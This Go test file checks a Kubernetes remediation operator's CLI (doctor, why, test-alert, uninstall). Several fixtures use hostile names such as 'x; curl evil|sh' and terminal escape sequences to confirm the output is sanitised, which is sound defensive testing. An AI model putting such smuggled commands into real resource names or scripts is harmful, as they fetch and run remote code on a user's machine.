package cli_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubernaut/kubernaut/api/v1alpha1"
	"github.com/kubernaut/kubernaut/internal/cli"
	"github.com/kubernaut/kubernaut/internal/kubetest"
	"github.com/kubernaut/kubernaut/internal/kubetest/build"
	"github.com/kubernaut/kubernaut/internal/lease"
	"github.com/kubernaut/kubernaut/pkg/action"
)

const home = "kubernaut-system"

var shipped = cli.Operator{Namespace: home, Account: "kubernaut"}

var _ = Describe("Whoever looks after it", func() {
	var (
		ns   string
		out  *bytes.Buffer
		root cli.Cluster
	)
	BeforeEach(func(ctx SpecContext) {
		ns, out = server.Namespace(ctx), &bytes.Buffer{}
		root = cli.Cluster{Client: server.Client, Namespace: ns}
	})
	granted := func(ctx context.Context) {
		var manifests bytes.Buffer
		Expect(cli.Grant{Namespace: ns, Level: action.LevelFull, Operator: shipped}.Print(&manifests)).To(Succeed())
		server.Apply(ctx, manifests.Bytes())
		server.AwaitRight(ctx, ns, kubetest.RemediatorUser(ns), rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"patch"}})
		server.AwaitRight(ctx, ns, kubetest.OperatorUser, rbacv1.PolicyRule{
			APIGroups: []string{""}, Resources: []string{"serviceaccounts"}, ResourceNames: []string{kubetest.Remediator}, Verbs: []string{"impersonate"},
		})
	}
	grantedNodes := func(ctx context.Context) {
		server.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "medik8s-leases"}})
		var manifests bytes.Buffer
		Expect(cli.Grant{Namespace: home, Level: action.LevelNode, Operator: shipped, NodeLeases: "medik8s-leases"}.Print(&manifests)).To(Succeed())
		server.Apply(ctx, manifests.Bytes())
	}
	// empty takes away what other specs left in other namespaces.
	empty := func(ctx context.Context) {
		for _, list := range []client.ObjectList{&v1alpha1.RemediationPolicyList{}, &v1alpha1.AlertRemediationList{}, &v1alpha1.WorkflowRunList{}} {
			Expect(server.Client.List(ctx, list)).To(Succeed())
			Expect(meta.EachListItem(list, func(item runtime.Object) error { return server.Client.Delete(ctx, item.(client.Object)) })).To(Succeed())
		}
	}
	ceilingOf := func(ctx context.Context, mode v1alpha1.Mode) {
		p := build.Policy(home, v1alpha1.DefaultPolicyName, v1alpha1.ModeRecommend).Ceiling(mode).Obj()
		server.Create(ctx, p)
		DeferCleanup(func(ctx SpecContext) { Expect(server.Client.Delete(ctx, p)).To(Succeed()) })
	}
	ceiling := func(ctx context.Context) { ceilingOf(ctx, v1alpha1.ModeAuto) }

	DescribeTable("is told what the ceiling means for every namespace, and how to change it", Serial,
		func(ctx SpecContext, mode v1alpha1.Mode, says, sets string) {
			ceilingOf(ctx, mode)
			_ = cli.Doctor{Operator: shipped}.Print(ctx, root, cli.Screen{Writer: out}) // there is no operator, which is said too
			Expect(out.String()).To(And(ContainSubstring(says), ContainSubstring(
				`kubectl -n kubernaut-system patch rp default --type merge -p '{"spec":{"ceiling":"`+sets+`"}}'`)))
		},
		Entry("as shipped", v1alpha1.ModeApprove, "note  the ceiling is Approve: a person lets each plan through, also where a policy says Auto, since no gate looks yet at who owns a field", "Auto"),
		Entry("raised", v1alpha1.ModeAuto, "note  the ceiling was raised to Auto: plans run without a person", "Approve"),
		Entry("lowered", v1alpha1.ModeObserve, "note  the ceiling is Observe: nothing runs in any namespace", "Approve"),
		Entry("taken away", v1alpha1.Mode(""), "FAIL  the policy default has no ceiling: every namespace is in mode Observe", "Approve"),
	)

	It("is told that the ceiling holds a policy with mode Auto at Approve", Serial, func(ctx SpecContext) {
		ceilingOf(ctx, v1alpha1.ModeApprove)
		server.Create(ctx, build.Deployment(ns, "web").Obj(), build.Policy(ns, "auto", v1alpha1.ModeAuto).Obj())
		Expect(cli.Why{Workload: ns + "/web", Operator: shipped}.Print(ctx, root, out)).To(Succeed())
		Expect(out.String()).To(ContainSubstring("policy " + ns + "/auto, mode Approve, which is the ceiling in kubernaut-system/default: a plan waits for a person"))
	})

	It("asks why, and learns what is in the way of a workload, and what mends it", Serial, func(ctx SpecContext) {
		ceiling(ctx)
		web := build.Deployment(ns, "web").Obj()
		server.Create(ctx, web)
		server.Create(ctx, &coordinationv1.Lease{ // of a run that is gone, which is in nobody's way
			ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: lease.Name(web.UID)},
			Spec:       coordinationv1.LeaseSpec{HolderIdentity: new(ns + "/gone/no-such-uid")},
		})
		why := cli.Why{Workload: ns + "/web", Operator: shipped}
		printed("why-nothing-granted.txt", ns, out, why.Print(ctx, root, out))

		granted(ctx)
		server.Create(ctx, build.Policy(ns, "auto", v1alpha1.ModeAuto).Paused("anna", "moving").Obj())
		printed("why-paused.txt", ns, out, why.Print(ctx, root, out))

		Expect(server.Client.Delete(ctx, build.Policy(ns, "auto", v1alpha1.ModeAuto).Obj())).To(Succeed())
		server.Create(ctx, build.Policy(ns, "auto", v1alpha1.ModeApprove).Obj())
		why.Workload = ns + "/deploy/web"
		printed("why.txt", ns, out, why.Print(ctx, root, out))

		Expect(server.Client.Delete(ctx, build.Policy(ns, "auto", v1alpha1.ModeApprove).Obj())).To(Succeed())
		server.Create(ctx, build.Policy(ns, "phase-1-approve", v1alpha1.ModeApprove).With(func(p *v1alpha1.RemediationPolicy) {
			p.Spec.Selectors.Alerts = []string{"KubePodCrashLooping", "KubeDeploymentRolloutStuck"}
		}).Obj())
		printed("why-for-alerts.txt", ns, out, why.Print(ctx, root, out))
	})
	It("is told what a workload is called", func(ctx SpecContext) {
		server.Create(ctx, build.Deployment(ns, "checkout").Obj())
		for name, workload := range map[string]string{
			"why-no-namespace.txt": "web", "why-kind-only.txt": "deployment/web", "why-unknown-kind.txt": ns + "/cronjob/web", "why-too-many.txt": "a/b/c/d",
			"why-near.txt": ns + "/chekout", "why-nowhere.txt": ns + "/nobody", "why-absent.txt": "kube-sistem/web", "why-escapes.txt": ns + "/\x1b[2Jweb",
		} {
			printed(name, ns, out, cli.Why{Workload: workload, Operator: shipped}.Print(ctx, root, out))
		}
	})
	It("is told that a name is that of several workloads, and how to name one", func(ctx SpecContext) {
		d := build.Deployment(ns, "web").Obj()
		server.Create(ctx, d, &appsv1.StatefulSet{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"},
			Spec:       appsv1.StatefulSetSpec{Selector: d.Spec.Selector, Template: d.Spec.Template},
		})
		err := cli.Why{Workload: ns + "/web", Operator: shipped}.Print(ctx, root, out)
		Expect(err).To(HaveOccurred())
		printed("why-several.txt", ns, out, err)
		err = cli.TestAlert{Workload: ns + "/web", Timeout: time.Second}.Walk(ctx, root, out)
		Expect(err).To(MatchError(ContainSubstring(ns + "/deployment/web or " + ns + "/statefulset/web")))
		Expect(cli.Why{Workload: ns + "/statefulset/web", Operator: shipped}.Print(ctx, root, out)).To(Succeed())
		Expect(out.String()).To(ContainSubstring("StatefulSet/web in " + ns))
		out.Reset()

		server.Create(ctx, build.Service(ns, "web", "web"), &appsv1.DaemonSet{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"},
			Spec:       appsv1.DaemonSetSpec{Selector: d.Spec.Selector, Template: d.Spec.Template},
		})
		printed("why-several-more.txt", ns, out, cli.Why{Workload: ns + "/web", Operator: shipped}.Print(ctx, root, out))
	})
	It("is told of a Service that has the name of a workload", func(ctx SpecContext) {
		server.Create(ctx, build.Deployment(ns, "api").Obj(), build.Service(ns, "api", "api"))
		Expect(cli.Why{Workload: ns + "/api", Operator: shipped}.Print(ctx, root, out)).To(Succeed())
		Expect(out.String()).To(And(HavePrefix("Deployment/api in "+ns+"\n"),
			ContainSubstring("Service/api has the same name: `kubectl kubernaut why "+ns+"/service/api` is about it")))
		out.Reset()
		Expect(cli.Why{Workload: ns + "/svc/api", Operator: shipped}.Print(ctx, root, out)).To(Succeed())
		Expect(out.String()).To(HavePrefix("Service/api in " + ns + "\n"))
	})
	It("is told what whoever types may not look at", Serial, func(ctx SpecContext) {
		server.Create(ctx, build.Deployment(ns, "web").Obj(), build.Policy(ns, "auto", v1alpha1.ModeAuto).Obj())
		server.GrantClusterRole(ctx, ns, "vera", "kubernaut-viewer")
		server.Grant(ctx, ns, "vera", rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get"}})
		vera := cli.Cluster{Client: server.As("vera"), Namespace: ns}
		printed("why-tenant.txt", ns, out, cli.Why{Workload: ns + "/web", Operator: shipped}.Print(ctx, vera, out))
		printed("doctor-tenant.txt", ns, out, cli.Doctor{Operator: shipped}.Print(ctx, vera, cli.Screen{Writer: out}))
	})

	It("has it all looked through, with what mends each fault", Serial, func(ctx SpecContext) {
		empty(ctx)
		doctor := cli.Doctor{Operator: shipped}
		screen := cli.Screen{Writer: out}
		server.Create(ctx, build.Policy(ns, "auto", v1alpha1.ModeAuto).Obj())
		err := doctor.Print(ctx, root, screen)
		Expect(err).To(MatchError(cli.ErrUnwell))
		printed("doctor-nothing-there.txt", ns, out, err)

		ceiling(ctx)
		granted(ctx)
		guard := &admissionregistrationv1.ValidatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: "kubernaut-run"}}
		Expect(server.Client.Delete(ctx, guard)).To(Succeed())
		DeferCleanup(server.InstallGuards)
		there := []client.Object{
			&corev1.Service{
				ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: "kubernaut", Labels: ofOperator},
				Spec:       corev1.ServiceSpec{Ports: []corev1.ServicePort{{Name: "intake", Port: 9094}}},
			},
			build.Deployment(home, "kubernaut").Replicas(2).Ready().With(labelled).With(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.ServiceAccountName = "my-kubernaut"
				d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "config", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "kubernaut-config-1"}}}}}
			}).Obj(),
			&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: "kubernaut-config-1"}, Data: map[string]string{"config.yaml": "alertmanager: {url: 'http://alertmanager.monitoring:9093'}"}},
			&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: v1alpha1.EmergencyStopName}},
			&corev1.Event{
				ObjectMeta:     metav1.ObjectMeta{Namespace: home, Name: "denied"},
				InvolvedObject: corev1.ObjectReference{APIVersion: "v1", Kind: "Namespace", Namespace: home, Name: home},
				Action:         "ReceiveAlerts", Reason: "SenderDenied", Message: "a message was answered 401: no token", Type: "Warning",
				EventTime: metav1.NewMicroTime(time.Now().Add(-72 * time.Hour)), ReportingController: "kubernaut", ReportingInstance: "kubernaut",
			},
			&rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "alertmanager-sends-to-kubernaut"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kubernaut-alert-sender"},
				Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: "monitoring", Name: "alertmanager"}},
			},
		}
		server.Create(ctx, there...)
		DeferCleanup(func(ctx SpecContext) {
			for _, obj := range there {
				Expect(server.Client.Delete(ctx, obj)).To(Succeed())
			}
		})
		printed("doctor-broken.txt", ns, out, doctor.Print(ctx, root, screen))
	})

	It("has nothing to say against a cluster that is well, whatever prefix its names have", Serial, func(ctx SpecContext) {
		empty(ctx)
		ceilingOf(ctx, v1alpha1.ModeApprove)
		granted(ctx)
		service := func(name, port string) *corev1.Service {
			return &corev1.Service{
				ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: name, Labels: ofOperator},
				Spec:       corev1.ServiceSpec{Ports: []corev1.ServicePort{{Name: port, Port: 9094}}},
			}
		}
		there := []client.Object{
			build.Deployment(home, "my-kubernaut").Replicas(2).Ready().With(labelled).With(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.ServiceAccountName = "kubernaut"
				d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "config", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "my-kubernaut-config-1"}}}}}
			}).Obj(),
			&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: "my-kubernaut-config-1"}, Data: map[string]string{"config.yaml": "alertmanager: {url: 'http://alertmanager.monitoring:9093'}"}},
			service("a-kubernaut-metrics", "metrics"), service("my-kubernaut", "intake"),
			&discoveryv1.EndpointSlice{
				ObjectMeta:  metav1.ObjectMeta{Namespace: home, Name: "my-kubernaut-1", Labels: map[string]string{discoveryv1.LabelServiceName: "my-kubernaut"}},
				AddressType: discoveryv1.AddressTypeIPv4,
				Endpoints:   []discoveryv1.Endpoint{{Addresses: []string{"10.0.0.1"}, Conditions: discoveryv1.EndpointConditions{Ready: new(true)}}},
			},
			&coordinationv1.Lease{
				ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: "kubernaut-leader"},
				Spec:       coordinationv1.LeaseSpec{HolderIdentity: new("my-kubernaut-0"), LeaseDurationSeconds: new(int32(15)), RenewTime: new(metav1.NowMicro())},
			},
			&rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "alertmanager-sends-to-my-kubernaut"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "my-kubernaut-alert-sender"},
				Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: "monitoring", Name: "alertmanager"}},
			},
			build.Policy(ns, "auto", v1alpha1.ModeAuto).Obj(),
		}
		server.Create(ctx, there...)
		heard := build.Remediation(ns, "a").FromAlertmanager("f00d").Obj()
		Expect(server.Operator(ctx).Create(ctx, heard)).To(Succeed())
		there = append(there, heard)
		DeferCleanup(func(ctx SpecContext) {
			for _, obj := range there {
				Expect(server.Client.Delete(ctx, obj)).To(Succeed())
			}
		})
		printed("doctor-healthy.txt", ns, out, cli.Doctor{Operator: shipped}.Print(ctx, root, cli.Screen{Writer: out}))
	})

	It("walks the path with an alert of their own, which nobody takes up without an operator", func(ctx SpecContext) {
		server.Create(ctx, build.Deployment(ns, "web").Obj())
		walk := cli.TestAlert{Workload: ns + "/web", Timeout: time.Second}
		printed("test-alert-nobody.txt", ns, out, walk.Walk(ctx, root, out))
		interrupted, interrupt := context.WithCancel(ctx)
		walk.Timeout = time.Hour
		time.AfterFunc(100*time.Millisecond, interrupt)
		Expect(walk.Walk(interrupted, root, out)).To(MatchError("interrupted"))
		var left v1alpha1.AlertRemediationList
		Expect(server.Client.List(ctx, &left, client.InNamespace(ns))).To(Succeed())
		Expect(left.Items).To(BeEmpty())
	})
	It("sees the walk to its end", func(ctx SpecContext) {
		server.Create(ctx, build.Deployment(ns, "web").Obj())
		done := make(chan error, 1)
		go func() {
			done <- cli.TestAlert{Workload: ns + "/web", Timeout: time.Minute, Keep: true}.Walk(ctx, root, out)
		}()
		operator := server.Operator(ctx)
		var all v1alpha1.AlertRemediationList
		Eventually(func() ([]v1alpha1.AlertRemediation, error) {
			err := server.Client.List(ctx, &all, client.InNamespace(ns))
			return all.Items, err
		}).WithContext(ctx).WithTimeout(time.Minute).Should(HaveLen(1))
		ar := &all.Items[0]
		Expect(ar.Spec.Mode).To(Equal(v1alpha1.ModeObserve))
		ar.Status.Outcome = v1alpha1.OutcomeObserved
		ar.Status.Conditions = []metav1.Condition{{Type: v1alpha1.Succeeded, Status: metav1.ConditionTrue, Reason: "Observed", Message: "nothing is wrong", LastTransitionTime: metav1.Now()}}
		Expect(operator.Status().Update(ctx, ar)).To(Succeed())
		Eventually(done).WithContext(ctx).WithTimeout(time.Minute).Should(Receive(BeNil()))
		printed("test-alert.txt", ns, out, nil)
	})

	It("frees what nobody lets go of, however late the answers come", Serial, func(ctx SpecContext) {
		run := build.Run(ns, "held", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
			r.Finalizers = []string{v1alpha1.RunFinalizer}
		}).Obj()
		server.Create(ctx, run)
		Expect(cli.Uninstall{Operator: shipped, Yes: true}.Run(ctx, root, out)).To(Succeed(), "even with no patience at all")
		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(MatchError(apierrors.IsNotFound, "is gone"))
	})
	It("removes everything, and leaves no finalizer behind", Serial, func(ctx SpecContext) {
		empty(ctx)
		ar := build.Remediation(ns, "a").Obj()
		server.Create(ctx, ar, build.Policy(ns, "p", v1alpha1.ModeAuto).Obj())
		run := build.Run(ns, "held", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
			r.Finalizers = []string{v1alpha1.RunFinalizer}
			r.Annotations = map[string]string{"note": "x" + override + "\x7f\u009b2J\U000e0041"}
			r.Status.Actor = kubetest.RemediatorUser(ns)
		}).Obj()
		server.Create(ctx, run)
		granted(ctx)
		grantedNodes(ctx)
		server.GrantClusterRole(ctx, ns, "anna", "kubernaut-approver")
		for _, name := range []string{"--all", "x\x1b[2J; curl evil|sh"} { // whoever administers a namespace may plant them
			server.Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kubernaut-viewer"},
				Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "mallory"}},
			})
		}
		off := cli.Uninstall{Operator: shipped, Patience: time.Second}
		printed("uninstall-under-way.txt", ns, out, off.Run(ctx, root, out))

		run.Status.Conditions = []metav1.Condition{{Type: v1alpha1.Succeeded, Status: metav1.ConditionTrue, Reason: "Completed", LastTransitionTime: metav1.Now()}}
		Expect(server.Operator(ctx).Status().Update(ctx, run)).To(Succeed())
		printed("uninstall.txt", ns, out, off.Run(ctx, root, out))
		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(Succeed())

		off.Yes = true
		printed("uninstall-yes.txt", ns, out, off.Run(ctx, root, out))
		for _, list := range []client.ObjectList{&v1alpha1.AlertRemediationList{}, &v1alpha1.WorkflowRunList{}, &v1alpha1.RemediationPolicyList{}} {
			Expect(server.Client.List(ctx, list)).To(Succeed())
			Expect(list).To(HaveField("Items", BeEmpty()))
		}
	})
	It("abandons a run that is under way only if nobody is left to end it, and shows what is half done", Serial, func(ctx SpecContext) {
		empty(ctx)
		web, gone := build.DeploymentTarget(ns, "web", "u").ObjectReference, build.DeploymentTarget(ns, "x; curl evil|sh", "u").ObjectReference
		node := v1alpha1.ObjectReference{APIVersion: "v1", Kind: "Node", Name: "node-1"}
		run := build.Run(ns, "half", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
			r.Finalizers = []string{v1alpha1.RunFinalizer}
			r.Annotations = map[string]string{"note": "x" + override + "\x7f\u009b2J\U000e0041"}
			r.Status.Actor = kubetest.RemediatorUser(ns)
			r.Status.Steps = []v1alpha1.StepStatus{{Name: "one", State: v1alpha1.StepRunning, Operations: []v1alpha1.OperationStatus{
				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: node}, State: v1alpha1.OperationApplied},
				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: web}, State: v1alpha1.OperationClaimed},
				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbDelete, Object: gone}, State: v1alpha1.OperationClaimed},
				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: web}},
			}}}
		}).Obj()
		began := build.Run(ns, "just-began", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
			r.Status.Actor = kubetest.RemediatorUser(ns)
		}).Obj()
		back := build.Run(ns, "turning-back", build.DeploymentTarget(ns, "web", "u")).Step("one", "RolloutRestart", nil).With(func(r *v1alpha1.WorkflowRun) {
			r.Status.Actor = kubetest.RemediatorUser(ns)
			r.Status.Conditions = []metav1.Condition{{Type: v1alpha1.RolledBack, Status: metav1.ConditionUnknown, Reason: v1alpha1.ReasonRunning, LastTransitionTime: metav1.NewTime(build.Started)}}
			r.Status.Steps = []v1alpha1.StepStatus{{Name: "one", State: v1alpha1.StepRunning, Operations: []v1alpha1.OperationStatus{
				{Operation: v1alpha1.Operation{Verb: v1alpha1.VerbPatch, Object: web}, State: v1alpha1.OperationApplied},
			}}}
		}).Obj()
		operator := build.Deployment(home, "my-kubernaut").With(labelled).Obj()
		server.Create(ctx, run, began, back, operator)
		off := cli.Uninstall{Operator: cli.Operator{Namespace: "not-there", Account: "kubernaut"}, Abandon: true, Yes: true}
		printed("uninstall-abandon-no-lease.txt", ns, out, off.Run(ctx, root, out))

		leads := &coordinationv1.Lease{
			ObjectMeta: metav1.ObjectMeta{Namespace: home, Name: "kubernaut-leader"},
			Spec:       coordinationv1.LeaseSpec{HolderIdentity: new("pod-1"), LeaseDurationSeconds: new(int32(1)), RenewTime: new(metav1.NowMicro())},
		}
		server.Create(ctx, leads)
		DeferCleanup(func(ctx SpecContext) {
			Expect(server.Client.Delete(ctx, leads)).To(Succeed())
			Expect(server.Client.Delete(ctx, operator)).To(Succeed())
		})
		printed("uninstall-abandon-at-work.txt", ns, out, off.Run(ctx, cli.Cluster{Client: renewing{server.Client}, Namespace: ns}, out))
		printed("uninstall-abandon-forbidden.txt", ns, out, off.Run(ctx, cli.Cluster{Client: blind{server.Client}, Namespace: ns}, out))
		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(Succeed())

		Expect(off.Run(ctx, root, out)).To(MatchError(ContainSubstring("is meant to run")), "however still its Lease is")
		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(Succeed())
		out.Reset()
		operator.Spec.Replicas = new(int32(0))
		Expect(server.Client.Update(ctx, operator)).To(Succeed())

		off.Yes = false
		printed("uninstall-abandon.txt", ns, out, off.Run(ctx, root, out))
		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(Succeed())
		off.Yes = true
		Expect(off.Run(ctx, root, out)).To(Succeed())
		var list v1alpha1.WorkflowRunList
		_, after, _ := strings.Cut(out.String(), "removed now:\n")
		Expect(json.NewDecoder(strings.NewReader(after)).Decode(&list)).To(Succeed())
		Expect(list.Items).To(HaveLen(3))
		kept := list.Items[0]
		Expect(out.String()).NotTo(ContainSubstring(override), "nothing reaches a terminal raw")
		Expect(kept.Annotations).To(Equal(run.Annotations))
		Expect(kept.Status.Steps).To(Equal(run.Status.Steps), "what would take it back is not lost with it")
		Expect(server.Client.Get(ctx, client.ObjectKeyFromObject(run), run)).To(MatchError(apierrors.IsNotFound, "is gone"))
	})
})

// override turns the direction of what a terminal writes.
const override = "\u202e"

// ofOperator are the labels of what config/manager installs.
var ofOperator = map[string]string{"app.kubernetes.io/name": "kubernaut"}

func labelled(d *appsv1.Deployment) { d.Labels = ofOperator }

// renewing is a cluster whose leader renews its lease after whoever looks has looked.
type renewing struct{ client.Client }

func (r renewing) List(ctx context.Context, list client.ObjectList, options ...client.ListOption) error {
	err := r.Client.List(ctx, list, options...)
	if held, ok := list.(*coordinationv1.LeaseList); ok && err == nil {
		for _, l := range held.Items {
			l.Spec.RenewTime = new(metav1.NowMicro())
			err = errors.Join(err, r.Update(ctx, &l))
		}
	}
	return err
}

// blind is a cluster to somebody who may do all but look at leases.
type blind struct{ client.Client }

func (b blind) List(ctx context.Context, list client.ObjectList, options ...client.ListOption) error {
	if _, ok := list.(*coordinationv1.LeaseList); ok {
		return server.As("nobody").List(ctx, list, options...)
	}
	return b.Client.List(ctx, list, options...)
}
